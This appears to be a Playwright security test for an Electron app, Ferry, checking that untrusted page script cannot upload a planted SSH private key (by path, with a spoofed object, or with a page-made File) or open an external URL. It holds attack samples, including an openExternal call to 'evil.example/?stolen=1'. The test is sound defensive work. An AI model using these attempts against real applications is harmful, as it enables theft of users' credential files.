// Issue #16: script in the page is untrusted. Whatever it hands window.ferry, it cannot make Ferry upload
// a file the user did not drop or pick, nor open a URL outside the app.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test, expect, noKeychainReason } from './support/harness.ts';
import { dropFiles, makeFixtures } from './support/fixtures.ts';

test.skip(Boolean(noKeychainReason), String(noKeychainReason));

type Call = (argument?: unknown) => Promise<unknown>;
type LooseFerry = { uploads: Record<string, Call | undefined>; app: Record<string, Call | undefined>; dropFiles: (files: unknown[]) => Promise<unknown> };

test('page script cannot upload by path or with a File it made; a real drop still uploads', async ({ page, ferry }) => {
  await ferry.open();
  await page.getByRole('button', { name: /Try it on this computer/ }).click();
  await expect(page.locator('[data-screen="main"]')).toBeVisible({ timeout: 30_000 });
  const secret = path.join(`${ferry.home}-files`, 'ssh', 'id_ed25519');
  mkdirSync(path.dirname(secret), { recursive: true });
  writeFileSync(secret, '-----BEGIN OPENSSH PRIVATE KEY-----\n');
  const [dropped] = await makeFixtures(ferry, [{ name: 'minutes.txt', size: 2048 }]);

  const attempts = await page.evaluate(
    async ({ secret, droppedName }) => {
      const { uploads, dropFiles } = window.ferry as unknown as LooseFerry;
      const settle = (call: () => Promise<unknown>) =>
        Promise.resolve()
          .then(call)
          .then(() => 'resolved', () => 'rejected');
      return {
        add: uploads.add ? await settle(() => uploads.add!({ paths: [secret], source: 'drop' })) : 'absent',
        // A look-alike object named like a file the user could drop, carrying a path of its own.
        plainObject: await settle(() => dropFiles([{ name: droppedName, path: secret }])),
        // A File the page built itself has no path on disk (Electron's getPathForFile returns '').
        pageFile: await settle(() => dropFiles([new File(['x'], 'id_ed25519')])),
      };
    },
    { secret, droppedName: dropped!.name },
  );
  expect((await ferry.services.uploads.list('en')).map((item) => item.name)).toEqual([]);
  expect(attempts).toEqual({ add: 'absent', plainObject: 'rejected', pageFile: 'rejected' });

  await dropFiles(page, [dropped!.name]);
  const row = page.getByTestId('upload-row').filter({ hasText: dropped!.name });
  await expect(row).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  expect((await ferry.services.uploads.list('en')).map((item) => item.name)).toEqual([dropped!.name]);
  const sandbox = await ferry.services.sandbox.ensure();
  expect(sandbox.servedOperations().PutObject).toBe(1);
});

test('page script has no way to open a URL outside the app', async ({ page, ferry }) => {
  await ferry.open();
  const opener = await page.evaluate(async () => {
    const { app } = window.ferry as unknown as LooseFerry;
    const kind = typeof app.openExternal;
    await app.openExternal?.({ url: 'https://evil.example/?stolen=1' }).catch(() => undefined);
    return kind;
  });
  expect(opener).toBe('undefined');
  expect(ferry.calls).not.toContain('app.openExternal');
  const external = (ferry.ports as unknown as { external?: { opened: string[] } }).external;
  expect(external?.opened ?? []).toEqual([]);
});
